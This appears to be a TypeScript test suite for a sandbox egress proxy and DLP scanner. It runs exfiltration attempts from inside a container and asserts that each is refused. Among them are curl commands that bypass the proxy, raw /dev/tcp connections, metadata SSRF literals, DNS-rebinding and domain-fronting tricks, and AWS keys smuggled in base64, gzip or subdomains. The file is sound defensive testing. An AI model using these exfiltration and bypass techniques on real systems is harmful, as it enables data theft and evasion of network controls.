/**
 * Attacks on the way out (G1: only allowlisted hosts, only through the proxy; G2: DLP), run from
 * inside one real bottle. Every target is a server this file starts on the host, reachable by the
 * egress proxy through `egress.hosts: host-gateway`; a refusal counts only when it is the specific
 * one (status, X-Bottle-Block code, rule text, errno) AND the target received nothing.
 */
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { randomBytes } from "node:crypto";
import { connect } from "node:net";
import { after, before, describe, it } from "node:test";
import { gzipSync } from "node:zlib";
import { bridgeGateway, launchBottle, type TestBottle } from "../../helpers/bottle.ts";
import { connectDocker } from "../docker/engine-available.ts";
import { CONNECT_PROBE, DNS_PROBE, SNI_PROBE, TCP_PROBE, UDP_PROBE, WEBSOCKET_PROBE } from "./probes.ts";
import { type Answer, type AttackTargets, parseCurl, startTargets } from "./upstream.ts";

const docker = await connectDocker({ baseImage: true });
const { engine } = docker;

/** Minted per run, so this file holds no secret. */
const TOKEN = `cbtest_${randomBytes(20).toString("hex")}`;
const awsKey = () =>
  `AKIA${[...randomBytes(16)].map((byte) => "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"[byte % 32]).join("")}`;
/** Error codes of a connect() that has nowhere to go. */
const NO_ROUTE = ["EHOSTUNREACH", "ENETUNREACH"];

describe("attacks on egress, from inside a bottle", { skip: docker.skip, timeout: 600_000 }, () => {
  let targets: AttackTargets;
  let bottle: TestBottle;
  let gateway = "";
  let http = "";
  let https = "";

  /** `curl -i` in the agent (through the proxy unless told otherwise), parsed. */
  const curl = async (args: string): Promise<Answer> =>
    parseCurl((await bottle.exec(`curl -sS -i -m 15 ${args}`)).stdout);
  const probe = async <T>(script: string, ...args: string[]): Promise<T> => {
    const result = await bottle.execArgv(["node", "-e", script, ...args]);
    assert.equal(result.status, 0, result.stderr);
    return JSON.parse(result.stdout) as T;
  };
  const tcp = (host: string, port: number | string, timeoutMs = 8000) =>
    probe<{ result: string }>(TCP_PROBE, host, String(port), String(timeoutMs));
  const refused = (answer: Answer, status: number, block: string, rule: RegExp | string) => {
    assert.equal(answer.status, status, JSON.stringify(answer));
    assert.equal(answer.block, block, JSON.stringify(answer));
    if (typeof rule === "string") assert.ok(answer.body.includes(`rule: ${rule}`), answer.body);
    else assert.match(answer.body, rule);
  };

  before(async () => {
    targets = await startTargets();
    gateway = await bridgeGateway(engine);
    http = `upstream.test:${targets.httpPort}`;
    https = `upstream.test:${targets.httpsPort}`;
    bottle = await launchBottle({
      env: { CB_ATTACK_TOKEN: TOKEN },
      bottle: `
cred_proxy:
  routes:
    - path: /api
      upstream: https://${https}
      auth_scheme: Bearer
      token_ref: CB_ATTACK_TOKEN
egress:
  allowlist: ["${http}", "${https}", "*.wild.test:${targets.httpPort}", "rebind-loopback.test:${targets.httpPort}", "rebind-private.test:${targets.httpPort}", "metadata.test", "169.254.169.254"]
  hosts:
    upstream.test: host-gateway
    docs.wild.test: host-gateway
    api.anthropic.com: host-gateway
    rebind-loopback.test: 127.0.0.1
    rebind-private.test: 10.0.0.5
    metadata.test: 169.254.169.254
  ip_allowlist: ["${gateway}/32"]
  upstream_ca: ["${targets.caFile}"]
`,
    });
  });

  after(async () => {
    await bottle?.stop();
    await targets?.close();
  });

  describe("G1: egress only to allowlisted hosts, only through the proxy", () => {
    it("G1: the allowlisted upstream answers through the proxy (positive control for every attack below)", async () => {
      const plain = await curl(`http://${http}/control`);
      assert.equal(plain.status, 200, JSON.stringify(plain));
      assert.equal(plain.body, "upstream got GET /control\n");
      const secure = await curl(`https://${https}/control-tls`);
      assert.equal(secure.status, 200, JSON.stringify(secure));
      assert.ok(targets.saw("/control") && targets.saw("/control-tls"));
    });

    it("G1: unsetting the proxy variables and connecting directly over IPv4 is refused (no route: EHOSTUNREACH)", async () => {
      const internal =
        (await engine.networkInspect(`cb-${bottle.instance}-internal-network`))?.subnets[0] ?? "";
      const internalGateway = internal.replace(/\.0\/\d+$/, ".1");
      // The default route of the internal network points at a gateway address that no one holds:
      // the host has no address on the bridge (inhibit_ipv4), so no packet can leave it.
      const bridge = `br-${(await engine.networkInspect(`cb-${bottle.instance}-internal-network`))?.id.slice(0, 12)}`;
      assert.equal(execFileSync("ip", ["-4", "-o", "addr", "show", "dev", bridge], { encoding: "utf8" }), "");
      const [viaCurl, toHost, toGateway] = await Promise.all([
        bottle.exec(
          `env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy curl -sS -m 10 http://${gateway}:${targets.httpPort}/direct; echo "rc=$?"`,
        ),
        tcp(gateway, targets.httpPort),
        tcp(internalGateway, targets.httpPort),
      ]);
      assert.match(viaCurl.stdout, /rc=7\b/, viaCurl.stdout + viaCurl.stderr);
      assert.match(viaCurl.stderr, new RegExp(`Failed to connect to ${gateway.replaceAll(".", "\\.")} port`));
      assert.ok(NO_ROUTE.includes(toHost.result), toHost.result);
      assert.ok(NO_ROUTE.includes(toGateway.result), toGateway.result);
      assert.equal(targets.saw("/direct"), false);
    });

    it("G1: connecting directly over IPv6 is refused (no IPv6 address or route)", async () => {
      const routes = await bottle.exec("cat /proc/net/ipv6_route");
      const offLoopback = routes.stdout
        .trim()
        .split("\n")
        .filter((line) => line && !/\slo$/.test(line.trim()));
      assert.deepEqual(offLoopback, [], "an IPv6 route leaves the loopback interface");
      // 2001:db8::/32 is the documentation prefix (RFC 3849): nothing real answers there anyway.
      const result = await tcp("2001:db8::1", 443);
      assert.ok(["EADDRNOTAVAIL", ...NO_ROUTE].includes(result.result), result.result);
      const mapped = await curl(`http://[::ffff:${gateway}]:${targets.httpPort}/v6-mapped`);
      refused(
        mapped,
        403,
        "not-allowlisted",
        `${gateway}:${targets.httpPort} matches no egress.allowlist entry`,
      );
      assert.equal(targets.saw("/v6-mapped"), false);
    });

    it("G1: IP literals of an allowed host in decimal, octal and hex are refused (403 not-allowlisted naming the dotted quad)", async () => {
      const [a, b, c, d] = gateway.split(".").map(Number) as [number, number, number, number];
      const forms = {
        decimal: String(((a << 24) >>> 0) + (b << 16) + (c << 8) + d),
        octal: [a, b, c, d].map((part) => `0${part.toString(8)}`).join("."),
        hex: `0x${[a, b, c, d].map((part) => part.toString(16).padStart(2, "0")).join("")}`,
        "dotted hex": [a, b, c, d].map((part) => `0x${part.toString(16)}`).join("."),
        "dotted quad": gateway,
      };
      for (const [form, literal] of Object.entries(forms)) {
        const answer = await curl(`http://${literal}:${targets.httpPort}/literal-${form.replace(" ", "-")}`);
        refused(
          answer,
          403,
          "not-allowlisted",
          `${gateway}:${targets.httpPort} matches no egress.allowlist entry`,
        );
      }
      assert.equal(targets.saw("/literal-"), false);
    });

    it("G1: cloud metadata (169.254.169.254) is refused through the proxy even when allowlisted, in every encoding (403 ssrf), and directly (no route)", async () => {
      const ssrf = "169.254.169.254 resolves to a linkLocal address, outside ssrf.ip_allowlist";
      for (const literal of [
        "169.254.169.254",
        "2852039166",
        "0251.0376.0251.0376",
        "0xa9fea9fe",
        "[::ffff:169.254.169.254]",
      ]) {
        refused(await curl(`http://${literal}/latest/meta-data/`), 403, "ssrf", ssrf);
      }
      refused(
        await curl("http://metadata.test/latest/meta-data/"),
        403,
        "ssrf",
        "metadata.test resolves to a linkLocal address, outside ssrf.ip_allowlist",
      );
      const direct = await tcp("169.254.169.254", 80);
      assert.ok(NO_ROUTE.includes(direct.result), direct.result);
    });

    it("G1: DNS exfiltration through the bottle's resolver is refused (external names do not resolve)", async () => {
      const secretish = randomBytes(24).toString("hex");
      const external = await probe<{ result: unknown }>(DNS_PROBE, `${secretish}.exfil.example.com`);
      assert.ok(
        ["ETIMEOUT", "ESERVFAIL", "ENOTFOUND", "EREFUSED"].includes(String(external.result)),
        JSON.stringify(external),
      );
      // Not even the allowlisted names: only the proxy resolves them.
      const allowed = await probe<{ result: unknown }>(DNS_PROBE, "upstream.test");
      assert.ok(!Array.isArray(allowed.result), JSON.stringify(allowed));
      // Positive control: the resolver answers for the bottle's own sidecars.
      const sidecar = await probe<{ result: unknown }>(DNS_PROBE, "egress-proxy");
      assert.ok(Array.isArray(sidecar.result) && sidecar.result.length === 1, JSON.stringify(sidecar));
    });

    it("G1: DNS rebinding of an allowed name to a private address is refused (403 ssrf)", async () => {
      refused(
        await curl(`http://rebind-loopback.test:${targets.httpPort}/rebind`),
        403,
        "ssrf",
        "rebind-loopback.test resolves to a loopback address, outside ssrf.ip_allowlist",
      );
      refused(
        await curl(`http://rebind-private.test:${targets.httpPort}/rebind`),
        403,
        "ssrf",
        "rebind-private.test resolves to a private address, outside ssrf.ip_allowlist",
      );
    });

    it("G1: domain fronting is refused (403 domain-fronting when Host ≠ CONNECT host; failed handshake when SNI ≠ CONNECT host)", async () => {
      const fronted = `Host header "docs.wild.test" does not match ${https}`;
      refused(
        await curl(`-H 'Host: docs.wild.test' https://${https}/fronted`),
        403,
        "domain-fronting",
        fronted,
      );
      refused(
        await curl(`-H 'Host: docs.wild.test' http://${http}/fronted`),
        403,
        "domain-fronting",
        `Host header "docs.wild.test" does not match ${http}`,
      );
      type Sni = { connect: string; tls: string };
      const control = await probe<Sni>(SNI_PROBE, https, "upstream.test");
      assert.deepEqual(control, { connect: "HTTP/1.1 200 Connection Established", tls: "ok" });
      const sni = await probe<Sni>(SNI_PROBE, https, "docs.wild.test");
      assert.equal(sni.connect, "HTTP/1.1 200 Connection Established");
      assert.notEqual(sni.tls, "ok");
      assert.match(sni.tls, /ECONNRESET|alert|disconnected|EPROTO/i);
      assert.equal(targets.saw("/fronted"), false);
    });

    it("G1: CONNECT to another port of an allowed host is refused (403 not-allowlisted), also for the built-in api.anthropic.com", async () => {
      const contacts = targets.contacts.length;
      const control = await probe<{ response: string }>(CONNECT_PROBE, https);
      assert.match(control.response, /^HTTP\/1\.1 200/);
      for (const target of [
        `upstream.test:${targets.tcpPort}`,
        "upstream.test:22",
        `api.anthropic.com:${targets.tcpPort}`,
      ]) {
        const { response } = await probe<{ response: string }>(CONNECT_PROBE, target);
        assert.match(response, /^HTTP\/1\.1 403 /, `${target}: ${response}`);
        assert.match(response, /^X-Bottle-Block: not-allowlisted\r$/im, response);
        assert.ok(response.includes(`rule: ${target} matches no egress.allowlist entry`), response);
      }
      assert.deepEqual(targets.contacts.slice(contacts), [], "a tunnel reached the raw TCP service");
    });

    it("G1: raw TCP out is refused (bash /dev/tcp and node net: no route; the service sees nothing)", async () => {
      // Positive control: the service listens at that address (the host reaches it).
      await new Promise<void>((resolve, reject) => {
        const socket = connect(targets.tcpPort, gateway, () => {
          socket.destroy();
          resolve();
        }).on("error", reject);
      });
      await new Promise((resolve) => setTimeout(resolve, 100));
      const contacts = targets.contacts.length;
      const bash = await bottle.exec(
        `bash -c 'exec 3<>/dev/tcp/${gateway}/${targets.tcpPort} && echo connected'; echo "rc=$?"`,
      );
      assert.match(bash.stdout, /^rc=1$/m, bash.stdout);
      assert.match(bash.stderr, /No route to host/);
      const node = await tcp(gateway, targets.tcpPort);
      assert.ok(NO_ROUTE.includes(node.result), node.result);
      assert.deepEqual(targets.contacts.slice(contacts), []);
    });

    it("G1: UDP out is refused (no reply; the listener and the audit see nothing)", async () => {
      type Udp = { result: string };
      const toHost = await probe<Udp>(UDP_PROBE, gateway, String(targets.udpPort), "3000");
      assert.ok(["no-reply", ...NO_ROUTE].includes(toHost.result), toHost.result);
      assert.ok(!targets.contacts.some((contact) => contact.startsWith("udp")), targets.contacts.join());
      // The default gateway is unreachable (previous tests), so this datagram cannot leave.
      const dns = await probe<Udp>(UDP_PROBE, "8.8.8.8", "53", "3000");
      assert.ok(["no-reply", ...NO_ROUTE].includes(dns.result), dns.result);
      assert.ok(
        !bottle
          .audit()
          .some((line) => line.host === "8.8.8.8" || (line.host === gateway && line.decision === "allow")),
      );
    });
  });

  describe("G2: what goes out through the proxy is scanned for secrets", () => {
    it("G2: a clean request passes the same path the secrets take (positive control)", async () => {
      const answer = await curl(`-X POST --data 'note=hello' https://${https}/clean-post`);
      assert.equal(answer.status, 200, JSON.stringify(answer));
      assert.equal(targets.requests.find((request) => request.url === "/clean-post")?.body, "note=hello");
    });

    it("G2: a 1 MiB upload over intercepted HTTPS is scanned and served; the same with a secret at its end is refused", async () => {
      // Above the inline size: the worker pool of the shipped bundle scans it.
      const made = await bottle.exec(
        "head -c 1048576 /dev/zero | tr '\\0' 'a' > /tmp/big.txt && cp /tmp/big.txt /tmp/big-secret.txt && wc -c < /tmp/big.txt",
      );
      assert.equal(made.stdout.trim(), "1048576", made.stderr);
      const served = await curl(`-X POST --data-binary @/tmp/big.txt https://${https}/big-clean`);
      assert.equal(served.status, 200, JSON.stringify(served));
      assert.equal(targets.requests.find((request) => request.url === "/big-clean")?.body.length, 1048576);
      const key = awsKey();
      await bottle.exec(`printf '\\naws_access_key_id=${key}\\n' >> /tmp/big-secret.txt`);
      const answer = await curl(`-X POST --data-binary @/tmp/big-secret.txt https://${https}/secret-big`);
      refused(answer, 403, "dlp-secret", "aws-access-key-id in body");
      assert.ok(!targets.requests.some((request) => request.url === "/secret-big"));
    });

    it("G2: a WebSocket message with a secret (split across fragments) is closed with 1008; a clean one is echoed", async () => {
      const clean = await probe<{ status: string; close: number | null; echo: string }>(
        WEBSOCKET_PROBE,
        https,
        "upstream.test",
        "hello upstream",
      );
      assert.match(clean.status, /^HTTP\/1\.1 101/);
      assert.equal(clean.echo, "upstream got 14 bytes", JSON.stringify(clean));
      assert.ok(targets.websocketMessages.includes("hello upstream"));
      const key = awsKey();
      const leak = await probe<{ status: string; close: number | null; echo: string }>(
        WEBSOCKET_PROBE,
        https,
        "upstream.test",
        `aws_access_key_id=${key}`,
      );
      assert.equal(leak.close, 1008, JSON.stringify(leak));
      assert.ok(!targets.websocketMessages.some((message) => message.includes(key.slice(4))));
    });

    const cases: {
      what: string;
      where: string;
      args: (key: string) => string;
      file?: (key: string) => Buffer;
    }[] = [
      {
        what: "in a request body",
        where: "body",
        args: (key) => `--data 'aws_access_key_id=${key}' https://${https}/secret-body`,
      },
      { what: "in the query", where: "URL", args: (key) => `'https://${https}/secret-query?k=${key}'` },
      {
        what: "in a header",
        where: "headers",
        args: (key) => `-H 'X-Data: ${key}' https://${https}/secret-header`,
      },
      {
        what: "base64-encoded in a body",
        where: "body",
        args: (key) =>
          `--data 'blob=${Buffer.from(`aws_access_key_id=${key}`).toString("base64")}' https://${https}/secret-base64`,
      },
      {
        what: "gzip-compressed in a body",
        where: "body",
        file: (key) => gzipSync(`aws_access_key_id=${key}`),
        args: () => `-H 'Content-Encoding: gzip' --data-binary @/tmp/secret.bin https://${https}/secret-gzip`,
      },
    ];
    for (const attack of cases) {
      it(`G2: an AWS key ${attack.what} is refused (403 dlp-secret, rule aws-access-key-id in ${attack.where})`, async () => {
        const key = awsKey();
        const file = attack.file?.(key);
        if (file !== undefined) {
          // The bytes sent do not hold the key: only decoding finds it.
          assert.ok(!file.includes(key));
          const written = await bottle.exec(`echo ${file.toString("base64")} | base64 -d > /tmp/secret.bin`);
          assert.equal(written.status, 0, written.stderr);
        }
        const answer = await curl(attack.args(key));
        refused(answer, 403, "dlp-secret", `aws-access-key-id in ${attack.where}`);
        assert.ok(!answer.body.includes(key), "the refusal repeats the secret");
        assert.ok(!targets.requests.some((request) => request.url.startsWith("/secret-")));
      });
    }

    it("G2: a token of the bottle sent to another allowed host is refused (403 dlp-known-token), while its own host gets it", async () => {
      const own = await curl(`-H 'Authorization: Bearer ${TOKEN}' https://${https}/token-own-host`);
      assert.equal(own.status, 200, JSON.stringify(own));
      const wrong = `known-token:CRED_PROXY_TOKEN_0 in headers (this credential belongs to another host)`;
      refused(
        await curl(
          `-H 'Authorization: Bearer ${TOKEN}' http://docs.wild.test:${targets.httpPort}/token-wrong-host`,
        ),
        403,
        "dlp-known-token",
        wrong,
      );
      refused(
        await curl(`--data 'x=${TOKEN}' http://docs.wild.test:${targets.httpPort}/token-wrong-host`),
        403,
        "dlp-known-token",
        wrong.replace("in headers", "in body"),
      );
      assert.equal(targets.saw("/token-wrong-host"), false);
    });

    it("G2: DNS-style exfiltration through long random subdomains of an allowed wildcard is refused (403 dlp-subdomain)", async () => {
      const control = await curl(`http://docs.wild.test:${targets.httpPort}/wildcard-control`);
      assert.equal(control.status, 200, JSON.stringify(control));
      const rule = `subdomain under *.wild.test:${targets.httpPort} looks like encoded data`;
      const b32 = (bytes: number) =>
        [...randomBytes(bytes)].map((byte) => "abcdefghijklmnopqrstuvwxyz234567"[byte % 32]).join("");
      for (const name of [
        `${b32(30)}.wild.test`,
        `${randomBytes(20).toString("hex")}.wild.test`,
        `${b32(20)}.${b32(20)}.wild.test`,
      ]) {
        refused(await curl(`http://${name}:${targets.httpPort}/exfil`), 403, "dlp-subdomain", rule);
      }
      assert.equal(targets.saw("/exfil"), false);
    });

    it("G2: refusals are audited with their code, never with the secret or the token", () => {
      const audit = bottle.audit();
      const codes = new Set(audit.map((line) => line.code));
      for (const code of [
        "not-allowlisted",
        "ssrf",
        "domain-fronting",
        "dlp-secret",
        "dlp-known-token",
        "dlp-subdomain",
      ]) {
        assert.ok(codes.has(code), `no audit line with code ${code}`);
      }
      const text = JSON.stringify(audit);
      assert.ok(!text.includes(TOKEN) && !text.includes(TOKEN.slice(7, 30)));
      assert.ok(!/AKIA[A-Z2-7]{16}/.test(text));
    });
  });
});
